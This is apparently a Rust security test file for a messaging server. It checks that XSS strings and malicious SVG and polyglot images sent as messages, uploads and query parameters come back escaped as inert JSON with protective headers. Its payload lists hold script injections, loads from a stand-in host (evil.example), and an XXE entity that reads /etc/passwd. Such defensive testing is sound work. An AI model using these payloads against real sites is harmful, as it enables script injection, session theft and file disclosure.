//! Words and pictures that would be programs on a page: they come back as they were sent, as data, and nowhere as markup.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use reqwest::Response;
use reqwest::header::{ACCEPT, CONTENT_TYPE};
use serde_json::{Value, json};

use super::Scene;
use super::door::{Door, KINDS};
use crate::databases::Backend;
use crate::harness::on_both_databases;
use crate::inbox::Inbox as _;
use crate::plain::Plain;
use crate::site::merged;

on_both_databases!(
    words_that_would_be_programs_come_back_as_they_were_sent,
    pictures_that_would_be_programs_come_back_as_they_were_sent,
    no_answer_is_a_page_by_what_was_asked,
);

/// What browsers took for markup, scripts, styles or addresses somewhere, some day.
const WORDS: [&str; 38] = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT\n>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "</title></textarea></style></noscript><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><button>log in again</button>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<x style=animation-name:y onanimationstart=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "`-alert(1)-`",
    "';alert(1)//",
    "\\';alert(1)//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{7*7}<%= 7*7 %>",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[><script>alert(1)</script>]]>",
    "\u{2028}alert(1)\u{2029}",
    "\u{feff}<\u{0}script>alert(1)</script>\u{202e}",
];

/// Pictures with a program in them.
const PICTURES: [&str; 8] = [
    r#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#,
    r#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"#,
    r#"<svg xmlns="http://www.w3.org/2000/svg"><script href="//evil.example/x.js"/></svg>"#,
    r#"<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>"#,
    r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><use x:href="//evil.example/x.svg#x"/></svg>"#,
    r#"<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>"#,
    r#"<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>"#,
    "GIF89a/*<script>alert(1)</script>*/=1;alert(1)",
];

async fn words_that_would_be_programs_come_back_as_they_were_sent(backend: Backend) {
    let mut scene = Scene::start(backend).await;
    let mut victim = Plain::log_in(&scene.server, &scene.victim).await;
    for kind in KINDS {
        let mut door = Door::log_in(&scene.server, kind, &scene.mallory).await;
        for word in WORDS {
            door.emit("messeage", &json!({"user_id": door.user, "to_id": victim.user, "content": word}))
                .await;
            let echo = door.wait_for("messeage").await;
            assert_eq!(echo["content"], word, "{kind:?}");
            assert_eq!(victim.wait_for("messeage").await, echo);
            let found = scene
                .server
                .ask(&victim, "/search/messeages", &json!({"talker_id": door.user, "messeage": word}))
                .await;
            assert_eq!(found["res"][0]["content"], word, "{kind:?}");
            assert_eq!(scene.server.contacts(&victim).await[0]["content"], word, "{kind:?}");
        }
    }
    scene.expect_peace().await;
}

async fn pictures_that_would_be_programs_come_back_as_they_were_sent(backend: Backend) {
    let mut scene = Scene::start(backend).await;
    let mut victim = Plain::log_in(&scene.server, &scene.victim).await;
    let mut mallory = Plain::log_in(&scene.server, &scene.mallory).await;
    for picture in PICTURES {
        let bytes = STANDARD.encode(picture);
        for (content_type, media_type) in [
            ("photo", "image/svg+xml"),
            ("file", "image/svg+xml"),
            ("file", "text/html"),
            ("file", "application/xml"),
        ] {
            let content = format!("data:{media_type};base64,{bytes}");
            let echo = mallory.show(victim.user, content_type, &content).await;
            assert_eq!(echo["content"], content);
            assert_eq!(victim.wait_for("messeage").await, echo);
        }
        // What says that it is no picture, no video and no sound is none.
        for content_type in ["photo", "video", "audio"] {
            let page = json!({
                "to_id": victim.user, "content": format!("data:text/html;base64,{bytes}"), "content_type": content_type,
            });
            assert_eq!(mallory.refused("messeage", &page).await, 400, "{content_type}");
        }
    }
    let asked = merged(&victim.session(), &json!({"with_id": mallory.user}));
    let answer = scene.server.http.post(scene.server.url() + "/messeages").json(&asked).send().await;
    let answer: Value = expect_data(answer.expect("an answer"), "/messeages").await;
    assert_eq!(answer["messeages"].as_array().map(Vec::len), Some(20));
    scene.expect_peace().await;
}

/// JSON that no browser takes for anything else.
async fn expect_data(answer: Response, case: &str) -> Value {
    let header = |name: &str| answer.headers().get(name).and_then(|value| value.to_str().ok());
    assert_eq!(header(CONTENT_TYPE.as_str()), Some("application/json"), "{case}");
    assert_eq!(header("x-content-type-options"), Some("nosniff"), "{case}");
    assert_eq!(header("cache-control"), Some("no-store"), "{case}");
    answer.json().await.expect(case)
}

async fn no_answer_is_a_page_by_what_was_asked(backend: Backend) {
    let mut scene = Scene::start(backend).await;
    for word in WORDS {
        for path in
            ["/isUsed/username", "/isUsed/email", "/search/users", "/register", "/contacts", "/nowhere"]
        {
            for name in ["username", "email", "user_name", "user_id", word] {
                let request = scene.server.http.get(scene.server.url() + path).query(&[(name, word)]);
                let answer = request.header(ACCEPT, "text/html").send().await.expect("an answer");
                let answer = expect_data(answer, path).await.to_string();
                assert!(word.len() < 12 || !answer.contains(word), "{path} says again: {answer}");
            }
        }
        for path in ["/register/confirm", "/password/reset/confirm"] {
            let request =
                scene.server.http.get(scene.server.url() + path).query(&[("id", "5"), ("uuid", word)]);
            let answer = request.header(ACCEPT, "text/html").send().await.expect("a page");
            let policy = answer.headers()["content-security-policy"].to_str().expect("text").to_owned();
            assert!(policy.contains("default-src 'none'"), "{policy}");
            let page = answer.text().await.expect("text");
            let inert = !word.contains(['<', '"', '\'']) || !page.contains(word);
            assert!(inert, "{path} {word}: {page}");
        }
    }
    scene.expect_peace().await;
}
